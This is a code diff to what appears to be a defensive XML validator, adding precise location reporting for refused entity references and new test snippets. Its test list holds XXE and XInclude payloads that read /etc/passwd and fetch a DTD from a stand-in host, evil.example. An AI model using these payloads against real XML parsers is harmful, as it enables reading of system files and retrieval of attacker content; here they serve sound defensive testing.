@@ -302,6 +302,14 @@ def xml_case(text):
         return "full", facts("xml", text, False, found, zero("xml"))
     except xml.parsers.expat.ExpatError as e:
         if e.code == xml.parsers.expat.errors.codes[xml.parsers.expat.errors.XML_ERROR_UNDEFINED_ENTITY]:
+            # In element content expat points at the reference's '&' (column
+            # 0-based, in characters): a full case. In an attribute it points at
+            # the start tag instead: checked on the code only.
+            line_text = text.split("\n")[e.lineno - 1]
+            if e.offset < len(line_text) and line_text[e.offset] == "&":
+                return "full", facts("xml", text, False, [finding(
+                    "xml_entity_refused", "entity references other than &lt; &gt; &amp; &quot; &apos; are refused",
+                    e.lineno, e.offset + 1, "/" + "/".join(stack) if stack else None)], zero("xml"))
             return "partial", {"valid": False, "code": "xml_entity_refused"}
         return "partial", {"valid": False, "code": "xml_syntax"}
     if st["depth"] > MAX_DEPTH:
@@ -316,7 +324,7 @@ XML_SNIPPETS = [
     "<!DOCTYPE a><a/>", "<!DOCTYPE a [<!ENTITY x \"y\">]><a>&x;</a>",
     "<?xml version=\"1.0\"?>\n<!DOCTYPE foo [<!ENTITY xxe SYSTEM \"file:///etc/passwd\">]>\n<foo>&xxe;</foo>",
     "<?xml version=\"1.0\"?>\n<!DOCTYPE d [<!ENTITY % p SYSTEM \"http://evil.example/x.dtd\"> %p;]>\n<d/>",
-    "<a>&ent;</a>", "<a b=\"&ent;\"/>", "<a xmlns:xi=\"http://www.w3.org/2001/XInclude\"><xi:include href=\"/etc/passwd\"/></a>",
+    "<a>&ent;</a>", "<a b=\"&ent;\"/>", "<r>\n  <x>ab&e;</x></r>", "<a>\u00e9&x;</a>", "<a><b/>t&nbsp;</a>", "<a xmlns:xi=\"http://www.w3.org/2001/XInclude\"><xi:include href=\"/etc/passwd\"/></a>",
     "<r><x:include xmlns:x=\"http://www.w3.org/2001/XInclude\" href=\"a.xml\"/></r>",
     "<a><b></a>", "<a>", "", "text", "<a/><b/>", "<a/>trailing", "<a x=1/>", "<a x=\"1\" x=\"2\"/>", "<1a/>",
     "<a><b/></b></a>", "<a>&#0;</a>", "<a>&#xZZ;</a>",
